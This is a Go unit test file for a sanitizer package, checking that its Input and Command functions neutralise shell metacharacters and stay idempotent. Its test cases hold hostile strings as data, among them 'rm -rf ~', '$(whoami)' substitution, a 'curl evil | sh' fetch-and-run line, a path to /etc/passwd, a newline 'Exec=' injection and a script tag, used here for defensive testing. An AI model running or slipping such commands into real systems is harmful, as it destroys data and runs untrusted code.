package sanitize

import (
	"strings"
	"testing"
)

func TestInput(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"Hello, World!", "Hello_ World_"},
		{"Test_123-abc.def:ghi@jkl%", "Test_123-abc.def:ghi@jkl%"},
		{"", ""},
		{" multiple   spaces ", " multiple   spaces "},
		{"../../etc/passwd", "../../etc/passwd"},
		{"name; rm -rf ~", "name_ rm -rf _"},
		{"a\nExec=evil", "a_Exec_evil"},
		{"café", "caf_"},
		{"$(whoami)`id`", "__whoami__id_"},
	}

	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Input(tt.in); got != tt.want {
				t.Errorf("Input(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCommand(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"ls -la /tmp/", "ls -la /tmp/"},
		{"echo 'Hello, World!'", "echo 'Hello_ World_'"},
		{"", ""},
		{`C:\Windows\System32`, `C:\Windows\System32`},
		{"npm install; curl evil | sh", "npm install_ curl evil _ sh"},
		{`npx electron-packager . "my app" --arch=x64`, `npx electron-packager . "my app" --arch=x64`},
	}

	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Command(tt.in); got != tt.want {
				t.Errorf("Command(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// Every output rune is on the allow-list and a second pass changes nothing.
func TestInput_TotalAndIdempotent(t *testing.T) {
	const allowed = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-.:/@% \t"

	inputs := []string{
		"",
		"plain",
		"\x00\x01\x7f",
		"日本語のサイト",
		"emoji 🚀 rocket",
		"tabs\tand\r\nnewlines",
		"<script>alert(1)</script>",
		strings.Repeat("!@#$%^&*()", 10),
	}
	for b := 0; b < 256; b++ {
		inputs = append(inputs, string(rune(b)))
	}

	for _, in := range inputs {
		once := Input(in)
		for _, r := range once {
			if !strings.ContainsRune(allowed, r) {
				t.Fatalf("Input(%q) produced disallowed rune %q", in, r)
			}
		}
		if twice := Input(once); twice != once {
			t.Fatalf("Input not idempotent for %q: %q then %q", in, once, twice)
		}
		if !IsSafeInput(once) {
			t.Fatalf("IsSafeInput(%q) = false for sanitized output", once)
		}
	}
}

func TestCommand_Idempotent(t *testing.T) {
	for _, in := range []string{"a|b", "x && y", `"quoted" 'single'`, "🚀"} {
		once := Command(in)
		if Command(once) != once {
			t.Errorf("Command not idempotent for %q", in)
		}
	}
}
